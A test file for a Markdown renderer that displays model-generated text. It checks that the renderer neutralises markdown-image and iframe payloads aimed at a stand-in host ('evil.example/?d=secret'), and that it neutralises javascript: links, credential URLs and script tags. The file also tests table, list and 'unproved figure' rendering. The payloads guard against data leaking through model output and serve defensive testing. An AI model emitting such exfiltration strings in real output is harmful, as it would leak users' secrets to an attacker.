import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './Markdown.tsx';

const draw = (text: string, marks: { start: number; end: number; title: string }[] = []) =>
  renderToStaticMarkup(<Markdown text={text} marks={marks} />);

describe('text of a model', () => {
  test.each([
    '![x](https://evil.example/?d=secret)',
    '<img src="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
  ])('%s makes no request', (text) => {
    expect(draw(text)).not.toMatch(/evil\.example/);
  });

  test.each([
    '[click](javascript:alert(1))',
    '[click](data:text/html,x)',
    '[click](/api/export/x)',
    '[click](https://user:pass@evil.example)',
    '[click](https://evil.example/?q=secret)',
    'https://evil.example/',
    '<https://evil.example/>',
  ])('%s is no link', (text) => {
    expect(draw(text)).not.toMatch(/<a /);
  });

  test('a web link is named and cannot be followed', () => {
    const html = draw('[docs](https://example.com/a?q=1)');
    expect(html).toContain('docs<span class="no-image"> [link: example.com]</span>');
    expect(html).not.toMatch(/href|q=1/);
  });

  test('scripts and handlers are drawn as nothing', () => {
    expect(draw('<script>alert(1)</script><b onclick="x()">b</b>')).not.toMatch(/script|onclick/);
  });
});

describe('a figure that is not proved', () => {
  const text = 'Revenue **rose 12 %** to $5.';
  const start = text.indexOf('12 %');

  test('is marked inside bold text too', () => {
    const html = draw(text, [{ start, end: start + 4, title: 'Not proved by the data' }]);
    expect(html).toContain('<strong>rose <mark class="unproved" title="Not proved by the data">12 %');
  });

  test('leaves the rest of the text as it was', () => {
    const html = draw(text, [{ start, end: start + 4, title: 'Not proved by the data' }]);
    expect(html.replaceAll(/<[^>]+>/g, '')).toContain('Revenue rose 12 % (not proved by the data) to $5.');
  });

  test('whose offsets lie outside the text changes nothing', () => {
    expect(draw(text, [{ start: 500, end: 510, title: 'x' }])).toBe(draw(text));
  });
});

test('tables of GitHub Markdown are drawn as tables', () => {
  expect(draw('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<table>');
});

test.each([
  ['- one\n- **two**', '<ul><li>one</li><li><strong>two</strong></li></ul>'],
  ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
  ['# Title\n\ntext  \nmore', '<h1>Title</h1><p>text<br/>more</p>'],
  ['between 5~10 and 7~9 days', '<p>between 5~10 and 7~9 days</p>'],
  ['12 units<br>3 days<BR /><br id="x">', '<p>12 units<br/>3 days<br/></p>'],
  ['`a` and ~~b~~', '<p><code>a</code> and <del>b</del></p>'],
  ['```sql\nSELECT 1\n```', '<pre><code>SELECT 1</code></pre>'],
  ['> quoted\n\n---', '<blockquote><p>quoted</p></blockquote><hr/>'],
  ['3 &lt; 5 &amp; so', '<p>3 &lt; 5 &amp; so</p>'],
])('%j is drawn as Markdown', (text, html) => {
  expect(draw(text)).toBe(`<div class="markdown">${html}</div>`);
});

test('a bare address stays text, and columns are aligned as the table says', () => {
  expect(draw('See https://example.com/a.')).toContain('<p>See https://example.com/a.</p>');
  expect(draw('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td style="text-align:right">2</td>');
});
